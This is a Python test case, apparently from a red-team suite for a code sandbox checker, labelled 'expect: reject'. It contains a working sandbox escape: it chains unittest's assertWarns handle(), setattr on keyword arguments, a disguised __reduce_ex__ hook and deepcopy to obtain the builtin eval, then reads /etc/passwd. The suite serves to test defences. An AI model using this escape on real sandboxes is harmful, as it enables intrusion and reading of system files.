# expect: reject builtin
# why: twenty-third red team, round d: unittest's assertRaises/assertWarns context handle(name, args, kwargs) splats a dict the program built into a **kwargs method whose keys setattr then uses: such keys are no judged source once handle is named
# line: 29
# goal: the real builtin `eval` as a value; reads /etc/passwd (its first line) through it.
# mechanism: variant of ok_01 -- assertWarns' context (_AssertWarnsContext shares
#   _AssertRaisesBaseContext.handle) splats a run-time dict into a program CLASS whose
#   __init__(self, **opts) copies its keywords with setattr(self, k, v); the class files
#   each new instance in a module-level list, so the object survives the AssertionError
#   handle raises when nothing warned.
# rule slipped: builtin (names.c kwargs_key / keywords_written, 87d561a): the review of
#   "library ways to turn a run-time dict's keys into keywords" missed unittest's public
#   context method handle(name, args, kwargs); no kw_holders identifier, no `**` splat,
#   no kwargs=/kwds= keyword appears, so `k` is taken as a judged (written) keyword name.
# verify: safe-exec-check rc=0; python3 prints <built-in function eval> and root:x:0:0:...
import copy
import typing
import unittest

made = []


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Settings:
    def __init__(self, **opts):
        for k in opts:
            setattr(self, k, opts[k])
        made.append(self)


class Case(unittest.TestCase):
    def runTest(self):
        pass


ctx = Case().assertWarns(UserWarning)
try:
    ctx.handle("assertWarns", [Settings], {"--reduce-ex--".replace("-", "_"): red})
except AssertionError:
    pass
ev = copy.deepcopy(copy.deepcopy(made[0]))
print(ev)
print(ev("[l for l in __import__('pathlib').Path('/etc/passwd').read_text().splitlines()][0]"))
